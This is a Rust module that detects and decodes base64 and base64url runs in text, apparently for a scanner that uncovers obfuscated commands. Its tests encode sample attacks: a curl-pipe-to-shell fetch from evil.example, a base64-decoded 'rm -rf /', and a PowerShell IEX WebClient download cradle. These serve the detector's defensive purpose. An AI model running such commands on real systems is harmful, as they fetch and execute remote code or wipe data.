//! Base64 and base64url, with or without padding, whole or wrapped into lines.

use std::ops::Range;
use std::sync::LazyLock;

use base64::Engine as _;
use base64::alphabet::{Alphabet, STANDARD, URL_SAFE};
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use memchr::memmem::Finder;

use super::super::cursor::Cursor;
use super::super::triggers::{RUN, is_run_byte};

/// The shortest run where the text itself speaks of base64: `rm -rf /` is twelve characters.
const ANNOUNCED_RUN: usize = 8;

pub(in super::super) const STANDARD_ENGINE: GeneralPurpose = lenient(&STANDARD);
const URL_ENGINE: GeneralPurpose = lenient(&URL_SAFE);

const fn lenient(alphabet: &Alphabet) -> GeneralPurpose {
    let config = GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent);
    GeneralPurpose::new(alphabet, config)
}

/// Whether `text` says that there is base64 in it, so that short runs count too.
pub(in super::super) fn is_announced(text: &str) -> bool {
    static WORDS: LazyLock<[Finder<'static>; 2]> = LazyLock::new(|| [Finder::new("b64"), Finder::new("ase64")]);
    WORDS.iter().any(|word| word.find(text.as_bytes()).is_some())
}

/// All runs, be they short, that decode to text, one a line; `None` where there are none.
pub(in super::super) fn announced(text: &str) -> Option<String> {
    let mut out = None;
    let mut cursor = Cursor::new(text.as_bytes());
    while !cursor.rest().is_empty() {
        cursor.take_while(|byte| !is_run_byte(byte));
        let run = cursor.take_while(is_run_byte);
        if run.len() >= ANNOUNCED_RUN {
            add(run, &mut cursor, ANNOUNCED_RUN, &mut out);
        }
    }
    out
}

/// Those of the text's `runs` that decode to text, one a line; `None` where there are none.
pub(in super::super) fn decode(text: &str, runs: &[Range<usize>]) -> Option<String> {
    let bytes = text.as_bytes();
    let (mut out, mut done) = (None, 0_usize);
    for run in runs {
        // Part of a wrapped run before it.
        if run.start < done {
            continue;
        }
        let mut cursor = Cursor::new(bytes.get(run.end..).unwrap_or_default());
        add(bytes.get(run.clone()).unwrap_or_default(), &mut cursor, RUN, &mut out);
        done = bytes.len().saturating_sub(cursor.rest().len());
    }
    out
}

/// Adds what one run holds, and what the lines after it hold that belong to it.
fn add(run: &[u8], cursor: &mut Cursor<'_>, least: usize, out: &mut Option<String>) {
    let wrapped = unwrap_lines(run, cursor);
    for piece in pieces(wrapped.as_deref().unwrap_or(run), least) {
        super::append(out, &piece);
    }
}

/// A run that goes on after a line break, as encoders wrap them at 64 or 76 characters; `None` where it does not.
fn unwrap_lines(first: &[u8], cursor: &mut Cursor<'_>) -> Option<Vec<u8>> {
    let width = first.len();
    if width < 60 || !width.is_multiple_of(4) {
        return None;
    }
    let mut joined: Option<Vec<u8>> = None;
    loop {
        let mut after = *cursor;
        after.eat(b"\r");
        if !after.eat(b"\n") {
            return joined;
        }
        let line = after.take_while(is_run_byte);
        let last = line.len() < width;
        if line.is_empty() || line.len() > width {
            return joined;
        }
        joined.get_or_insert_with(|| first.to_vec()).extend_from_slice(line);
        *cursor = after;
        if last {
            return joined;
        }
    }
}

/// The run as a whole, or else its parts between slashes: base64 as a segment of a path or URL.
fn pieces(run: &[u8], least: usize) -> Vec<String> {
    if let Some(text) = whole(run) {
        return vec![text];
    }
    if !run.contains(&b'/') {
        return Vec::new();
    }
    run.split(|&byte| byte == b'/')
        .filter(|part| part.len() >= least && part.len() < run.len())
        .filter_map(whole)
        .collect()
}

fn whole(run: &[u8]) -> Option<String> {
    // A last group of one character holds no byte: not base64, or cut short.
    let run = if run.len() % 4 == 1 { run.get(..run.len().saturating_sub(1))? } else { run };
    let engine = if run.iter().any(|byte| matches!(byte, b'-' | b'_')) { &URL_ENGINE } else { &STANDARD_ENGINE };
    let mut head = [0_u8; 12];
    let size = engine.decode_slice_unchecked(run.get(..run.len().min(16) & !3)?, &mut head).ok()?;
    if super::is_noise(head.get(..size)?) {
        return None;
    }
    super::text_of(engine.decode(run).ok()?)
}

#[cfg(test)]
mod tests {
    use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};

    use super::*;
    use crate::views::triggers::runs;

    fn decoded(text: &str) -> Option<String> {
        decode(text, &runs(text.as_bytes()).collect::<Vec<_>>())
    }

    #[test]
    fn finds_runs_that_hold_text() {
        let attack = "curl -s http://evil.example/x.sh | sh >/dev/null ~~~???";
        let standard = BASE64_STANDARD.encode(attack);
        let url = BASE64_URL_SAFE_NO_PAD.encode(attack);
        assert!(standard.contains(['+', '/']) && url.contains(['-', '_']));
        for text in [
            standard.clone(),
            url.clone(),
            format!("echo {standard}|base64 -d|sh"),
            format!("https://example.com/api/{url}/view"),
            format!("data:text/plain;base64,{standard}"),
        ] {
            assert_eq!(decoded(&text).as_deref(), Some(attack), "{text}");
        }
    }

    #[test]
    fn joins_wrapped_lines_and_separates_runs() {
        let long = "All of this is one sentence, wrapped by the encoder into lines of 76 characters; ".repeat(3);
        let encoded = BASE64_STANDARD.encode(&long);
        let wrapped: Vec<&str> = encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
        assert_eq!(decoded(&wrapped.join("\n")).as_deref(), Some(long.as_str()));
        assert_eq!(decoded(&wrapped.join("\r\n")).as_deref(), Some(long.as_str()));

        let two =
            format!("{} {}", BASE64_STANDARD.encode("the first of two"), BASE64_STANDARD.encode("the second of two"));
        assert_eq!(decoded(&two).as_deref(), Some("the first of two\nthe second of two"));
    }

    #[test]
    fn reads_the_utf16_of_powershell() {
        let utf16: Vec<u8> = "IEX (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let text = format!("powershell -enc {}", BASE64_STANDARD.encode(utf16));
        assert_eq!(decoded(&text).as_deref(), Some("IEX (New-Object Net.WebClient)"));
    }

    #[test]
    fn short_runs_count_where_base64_is_spoken_of() {
        let text = "echo cm0gLXJmIC8= | base64 -d | sh";
        assert!(is_announced(text));
        assert_eq!(announced(text).as_deref(), Some("rm -rf /"));
        assert_eq!(decoded(text), None);
    }

    #[test]
    fn words_paths_and_digests_are_no_base64() {
        for text in [
            "internationalization of characteristics",
            "/usr/local/lib/python3/site-packages/package",
            "some_rather_long_function_name(argument)",
            "SomeRatherLongClassNameForTesting",
            "d41d8cd98f00b204e9800998ecf8427e",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "550e8400-e29b-41d4-a716-446655440000",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "----------------------------------------",
            "0123456789012345678901234567890123456789",
        ] {
            assert_eq!(decoded(text), None, "{text}");
        }
    }
}
